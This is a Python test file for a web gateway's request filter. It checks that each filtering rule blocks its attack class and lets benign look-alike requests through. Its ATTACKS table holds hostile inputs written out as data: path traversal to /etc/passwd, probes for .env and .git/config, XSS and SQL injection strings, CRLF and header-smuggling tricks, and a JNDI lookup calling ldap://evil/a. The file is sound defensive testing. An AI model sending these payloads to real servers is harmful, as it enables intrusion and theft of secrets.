"""Each rule: let through without the filter, refused with it, and what is like it but honest is
let through. Over real sockets, to a door that answers orders beside."""

import tomllib
from collections.abc import AsyncIterator

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fondaco.gateway.door import Door
from fondaco.gateway.guard.filter import RULES, Filter, Mode, decoded
from gateway.desk import ORDER, Desk, a_door
from gateway.server import serving, wired

pytestmark = pytest.mark.anyio
HOST = b"Host: test\r\n"
Request = tuple[bytes, bytes, bytes]  # method, target, headers


def at(target: bytes, headers: bytes = HOST) -> Request:
    return b"GET", target, headers


def holding(*lines: bytes) -> Request:
    return at(b"/nowhere", HOST + b"".join(line + b"\r\n" for line in lines))


ATTACKS: dict[str, list[Request]] = {
    "method": [(b"TRACE", b"/nowhere", HOST), (b"PROPFIND", b"/", HOST)],
    "oversize_target": [at(b"/nowhere?" + b"q" * 9_000)],
    "null_byte": [at(b"/nowhere%00.json"), at(b"/nowhere?q=%2500")],
    "control_character": [at(b"/nowhere%0d%0aSet-Cookie:x"), at(b"/nowhere?q=%1b[2J")],
    "path_traversal": [
        at(b"/api/../../etc/passwd"),
        at(b"/api/%2e%2e/%2e%2e/etc/passwd"),
        at(b"/api/%252e%252e%252fetc"),
        at(b"/api/..%5c..%5cwindows"),
        at(b"/api/..;/admin"),
        at(b"/api/.."),
    ],
    "overlong": [at(b"/api/%c0%ae%c0%ae/etc"), at(b"/api/%e0%80%ae"), at(b"/a?q=%f0%80%80%af")],
    "scanner": [at(b"/.env"), at(b"/a/.git/config"), at(b"/wp-login.php"), at(b"/x/INDEX.PHP")],
    "script": [at(b"/nowhere?q=%3Cscript%3Ealert(1)"), at(b"/nowhere?u=javascript:alert(1)")],
    "sql": [at(b"/nowhere?id=1'%20OR%20'1'='1"), at(b"/nowhere?id=1%20UNION%20SELECT%20a")],
    "header_twice": [
        at(b"/nowhere", HOST + HOST),
        holding(b"Authorization: Bearer a", b"Authorization: Bearer b"),
        holding(b"Content-Type: text/html", b"Content-Type: application/json"),
    ],
    "header_disguise": [holding(b"Content_Length: 5"), holding(b"Transfer_Encoding: chunked")],
    "transfer_encoding": [holding(b"Transfer-Encoding: gzip, chunked", b"X: 1")],
    "rewriting": [holding(b"X-HTTP-Method-Override: DELETE"), holding(b"X-Original-URL: /admin")],
    "oversize_header": [holding(b"X-A: " + b"a" * 17_000)],
    "lookup": [holding(b"User-Agent: ${jndi:ldap://evil/a}"), holding(b"X-A: ${ENV:KEY}")],
}
HONEST: list[Request] = [
    at(b"/nowhere"),
    at(b"/api/orders/a..b"),
    at(b"/api/orders/..."),
    at(b"/api/instruments?symbol=BTC-USD&limit=10"),
    at(b"/api/accounts/demo?note=100%25%20of%20it"),
    at(b"/nowhere?q=caf%C3%A9+%E2%82%AC+%F0%9F%8F%A6"),
    at(b"/nowhere?q=select+a+union+or+drop"),
    at(b"/nowhere?q=O'Brien%20and%20sons"),
    at(b"/nowhere?url=https://app.example/script"),
    at(b"/nowhere?q=a%09b"),
    at(b"/assets/index.php3d.js"),
    at(b"/.well-known/openid-configuration"),
    at(b"/environment"),
    holding(b"Accept: a", b"Accept: b", b"X-Price: $5 {ok}"),
    holding(b"User-Agent: Mozilla/5.0 (X11; Linux x86_64)\tlike this", b"Cookie: a=b; c=d"),
    holding(b"X-Name: caf\xc3\xa9"),
    (b"OPTIONS", b"/nowhere", HOST),
]


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
async def opened() -> AsyncIterator[tuple[Door, Desk]]:
    async with a_door() as found:
        yield found


async def answers(door: Door, mode: Mode, requests: list[Request]) -> list[tuple[int, str, str]]:
    """Status, code and rule of each, on a connection of its own."""
    found = []
    async with serving(door, rules=Filter(mode)) as port:
        for method, target, headers in requests:
            async with wired(port) as wire:
                await wire.send(b"%b %b HTTP/1.1\r\n%b\r\n" % (method, target, headers))
                status, _, body = await wire.response()
                told = msgspec.json.decode(body) if body else {}
                rule = told.get("details", {}).get("rule", "")
                found.append((status, told.get("code", ""), rule))
    return found


def test_every_rule_is_tried() -> None:
    assert list(tomllib.loads(RULES.read_text())) == list(ATTACKS)


@pytest.mark.parametrize("rule", ATTACKS)
async def test_what_a_rule_forbids_comes_in_without_the_filter_and_not_with_it(
    opened: tuple[Door, Desk], rule: str
) -> None:
    requests = ATTACKS[rule]
    for mode in ("off", "observe"):
        for status, code, _ in await answers(opened[0], mode, requests):
            assert code != "filtered", mode
            assert status in (404, 405, 401), (mode, status, code)
    for found in await answers(opened[0], "enforce", requests):
        assert found == (400, "filtered", rule)


async def test_what_is_honest_comes_in(opened: tuple[Door, Desk]) -> None:
    for request, (_, code, rule) in zip(
        HONEST, await answers(opened[0], "enforce", HONEST), strict=True
    ):
        assert code != "filtered", (request, rule)


async def test_an_order_with_a_header_twice_is_not_taken(opened: tuple[Door, Desk]) -> None:
    door, desk = opened
    body = msgspec.json.encode(ORDER)
    head = b"Host: test\r\nContent-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
    twice = b"Authorization: Bearer stranger\r\nAuthorization: Bearer ada\r\n"
    async with serving(door, rules=Filter()) as port, wired(port) as wire:
        await wire.send(b"POST /api/orders HTTP/1.1\r\n%b%b\r\n%b" % (head, twice, body))
        status, _, told = await wire.response()
        assert (status, msgspec.json.decode(told)["details"]["rule"]) == (400, "header_twice")
    assert not desk.entries()


@given(st.binary(max_size=60), st.lists(st.tuples(st.binary(max_size=9), st.binary(max_size=9))))
def test_no_bytes_are_too_bad(target: bytes, headers: list[tuple[bytes, bytes]]) -> None:
    Filter().judge(b"GET", target, headers)


@given(st.binary(max_size=40), st.integers(0, 3))
def test_dots_are_found_however_often_they_are_written_in_code(rest: bytes, times: int) -> None:
    text = b"/a/../" + rest.replace(b"?", b"").replace(b"%", b"")
    for _ in range(times):
        text = b"".join(b"%%%02x" % each for each in text)
    assert decoded(text).startswith(b"/a/../")
    found = Filter().judge(b"GET", text, [])
    assert found is not None


def test_what_only_watches_counts() -> None:
    watching = Filter("observe")
    watching.check(b"GET", b"/.env", [])
    assert watching.met["scanner"] == 1
    off = Filter("off")
    off.check(b"GET", b"/.env", [])
    assert not any(off.met.values())
